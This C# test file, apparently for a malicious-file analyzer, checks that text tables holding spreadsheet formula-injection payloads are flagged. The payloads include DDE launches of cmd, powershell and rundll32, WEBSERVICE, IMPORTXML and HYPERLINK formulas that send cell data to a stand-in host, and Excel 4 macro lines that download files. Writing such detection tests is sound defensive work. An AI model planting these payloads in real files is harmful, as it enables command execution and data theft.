using System.Text;
using Analyzer.Core;
using Analyzer.Engines.Tests.Making;

namespace Analyzer.Engines.Tests.Kinds;

/// <summary>Tables of plain text, as a spreadsheet program takes them: cells that begin with a sign are formulas.</summary>
public sealed class TableTests
{
    private const string Starts = "text.dde-formula";
    private const string Fetches = "text.fetching-formula";
    private const string Leads = "text.linking-formula";

    [Theory]
    [InlineData("a\tb\n=cmd|' /C calc'!A0\tx\n", Starts)]
    [InlineData("name,x\n\"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A1\",1\n", Starts)]
    [InlineData("a;b\n1;@SUM(1+1)*cmd|' /C calc'!A0\n", Starts)]
    [InlineData("a,b\n+thatpart(powershell|'-c x'!A0,1\n", Starts)]
    [InlineData("a,b\n=  r u n d l l 3 2  |  ' a . d l l , b '  !  A ,1\n", Starts)]
    [InlineData("a,b\n\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\",1\n", Starts)]
    [InlineData("a,b\n=AAAA+BBBB-CCCC&\"Hello\"/12345&anything|'/c calc.exe'!A\n", Starts)]
    [InlineData("a,b\n1,\"=WEBSERVICE(\"\"http://a.example/\"\"&A1)\"\n", Fetches)]
    [InlineData("a\n\"=IMPORTXML(CONCAT(\"\"http://a.example/?v=\"\",A1),\"\"//a\"\")\"\n", Fetches)]
    [InlineData("a\tb\n=IF(1=1, _xlfn.WEBSERVICE(\"http://a.example\"), 0)\n", Fetches)]
    [InlineData("a\n+IMPORTRANGE(\"a\";\"b\")\n", Fetches)]
    [InlineData("n,l\nx,\"=HYPERLINK(\"\"http://a.example/?d=\"\"&A1,\"\"click\"\")\"\n", Leads)]
    [InlineData("n;l\nx;=HYPERLINK(CONCATENATE(\"https://a.example/\";A1);\"click\")\n", Leads)]
    [InlineData("n\tl\nx\t=HYPERLINK(\"\\\\192.0.2.1\\share\\a.txt\", \"click\")\n", Leads)]
    [InlineData("n\tl\nx\t=HYPERLINK(\"https://a.example/setup.exe\")\n", Leads)]
    [InlineData("n\tl\nx\t=IMAGE(\"https://a.example/i?\"&B1)\n", Leads)]
    public void Complete_TableWithAnActingFormula_IsSuspicious(string table, string rule)
    {
        foreach (var file in (byte[][])[Encoding.UTF8.GetBytes(table), [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(table)]])
        {
            var report = Judged.Of(file);

            report.Verdict.ShouldBe(Verdict.Suspicious, Judged.Text(report));
            report.Rules().ShouldBe([rule]);
        }
    }

    [Theory]
    [InlineData("name,price\n\"Smith, J\",=SUM(A1:A3)\n-5,+3\n\"@handle\",1\n")]
    [InlineData("n,l\nx,\"=HYPERLINK(\"\"https://a.example/part/7\"\",\"\"part\"\")\"\n")]
    [InlineData("n,l\nx,\"=HYPERLINK(\"\"#Sheet2!A1\"\")\"\ny,=HYPERLINK(A1)\n")]
    [InlineData("@WebService(name = \"Parts\")\npublic interface Parts { String of(int number); }\n")]
    [InlineData("Functions:\n- WEBSERVICE(url) returns what lies at an address\n- it is like IMPORTXML(url) of another program\n")]
    [InlineData("names:\n- .*\\.(bat|cmd|com|exe)$\n- (excel|winword)\\.exe\n")]
    [InlineData("Compares two files (as they are), and tells; the library's\nfunction is used. It warns; some (old) files cannot be read.\n"
        + "Line\nLine\nLine\nLine\nLine\nLine\nLine\nLine\nLine\nLine\nLine\nLine\nLine\nLine\nLine\nLine\n")]
    [InlineData("-a, --all | show 'all' parts!\n+ command | 'x'\n")]
    [InlineData("rule A {\n strings:\n  $a = \"=EXEC(\"\n  $b = \"HALT()\"\n  $c = \"FORMULA.FILL(\"\n condition: any of them\n}\n")]
    [InlineData("{ \"a\": \"const child = exec('ls'); const b = run(1);\", \"b\": \"halt()\" }\n")]
    [InlineData("# Notes\n\n```text\n=cmd|' /C calc'!A0\n```\n")]
    public void Complete_OrdinaryTableOrText_IsClean(string text)
    {
        var report = Judged.Of(text);

        report.Verdict.ShouldBe(Verdict.Clean, Judged.Text(report));
    }

    [Theory]
    [InlineData("FORMULA.FILL(CHAR(A1)&CHAR(B2),C3)RUN(D4)0HALT()")]
    [InlineData("A1 =EXEC(\"calc\")\nA2 =HALT()\n")]
    [InlineData("=REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"D\")\n=GOTO(B1)\n")]
    public void Complete_TextOfAMacroSheet_IsSuspicious(string text) =>
        Judged.Of(text).Rules().ShouldContain("text.sheet-macro");

    [Theory]
    [InlineData("XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=a.example\r\n", "text.web-query")]
    [InlineData("#EXTM3U\n#EXTINF:1,a\n\\\\192.0.2.1\\share\\a.mp3\n", "text.file-share")]
    public void Complete_FileThatLoadsFromElsewhere_IsSuspicious(string text, string rule)
    {
        var report = Judged.Of(text);

        (report.Verdict, report.Rules().Single()).ShouldBe((Verdict.Suspicious, rule));
        Judged.Of("#EXTM3U\n#EXTINF:1,a\nhttps://a.example/a.mp3\nb.mp3\n").Verdict.ShouldBe(Verdict.Clean);
    }
}
